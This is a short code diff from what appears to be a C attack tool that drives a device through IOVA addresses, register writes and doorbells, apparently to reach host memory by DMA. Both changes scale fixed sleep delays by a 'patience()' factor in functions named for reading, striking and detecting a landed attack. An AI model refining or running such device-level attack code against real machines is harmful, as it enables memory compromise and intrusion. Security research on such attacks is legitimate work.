@@ -96,7 +96,7 @@ static void read_of_function(struct attack *a, uint64_t iova)
 	};
 	__sync_synchronize();
 	write_register(&a->d.u, TDT, 1);
-	usleep(100 * 1000);
+	usleep(100 * 1000 * patience());
 }
 
 static void strike(struct attack *a, uint64_t iova)
@@ -169,7 +169,7 @@ static void look_for_commands(struct attack *a)
 		a->iova = QUEUES;
 		memset(a->d.queues, 0, 4 * PAGE);
 		doorbell(&a->d, 0, 1);
-		usleep(100 * 1000);
+		usleep(100 * 1000 * patience());
 		if (*(volatile uint32_t *)(a->d.queues + PAGE + 12))
 			a->landed = '1';
 	} else {
